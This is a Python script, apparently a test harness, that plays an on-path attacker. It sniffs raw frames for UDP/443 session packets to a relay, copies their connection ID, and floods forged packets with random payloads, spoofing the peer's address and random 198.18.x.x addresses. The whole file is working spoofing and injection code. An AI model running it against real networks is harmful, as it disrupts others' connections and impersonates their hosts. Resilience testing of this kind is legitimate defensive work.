#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Somebody on the path: sees a session's packets, and sends garbage with their connection ID for SECONDS.

  forge.py INTERFACE SECONDS

From another station of the link each time: once with the address of the peer, and from addresses of its own. Prints
{"seen": ..., "sent": ...}.
"""

import json
import os
import random
import socket
import struct
import sys
import time

ALL, IPV4, UDP, PORT = 3, 0x0800, 17, 443
OTHER_STATION = bytes.fromhex("02badbadbad0")


def checksum(header):
    total = sum(struct.unpack("!10H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def session_packet(frame):
    """(Destination's MAC, source, source port, destination, flags and connection ID) of a packet to the relay."""
    if len(frame) < 80 or struct.unpack_from("!H", frame, 12)[0] != IPV4 or frame[14] != 0x45 or frame[23] != UDP:
        return None
    source_port, port = struct.unpack_from("!HH", frame, 34)
    if port != PORT or frame[42] & 0xC0 != 0x40:
        return None
    return frame[:6], frame[26:30], source_port, frame[30:34], frame[42:59]


def forge(packet, source, source_port):
    mac, _, _, destination, start = packet
    udp = struct.pack("!HHHH", source_port, PORT, 8 + len(start) + 60, 0) + start + os.urandom(60)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, UDP, 0, source, destination)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return mac + OTHER_STATION + struct.pack("!H", IPV4) + header + udp


def main():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL)) as s:
        s.bind((sys.argv[1], ALL))
        s.settimeout(0.0005)
        end, packet, seen, sent = time.monotonic() + float(sys.argv[2]), None, 0, 0
        while time.monotonic() < end:
            try:
                frame = s.recv(2048)
                if frame[6:12] != OTHER_STATION and (new := session_packet(frame)):
                    packet, seen = new, seen + 1
            except socket.timeout:
                pass
            if packet is None:
                continue
            s.send(forge(packet, packet[1], packet[2]))
            for _ in range(4):
                s.send(forge(packet, bytes([198, 18, 77, random.randrange(1, 255)]), random.randrange(1024, 65536)))
            sent += 5
    print(json.dumps({"seen": seen, "sent": sent}))


if __name__ == "__main__":
    main()
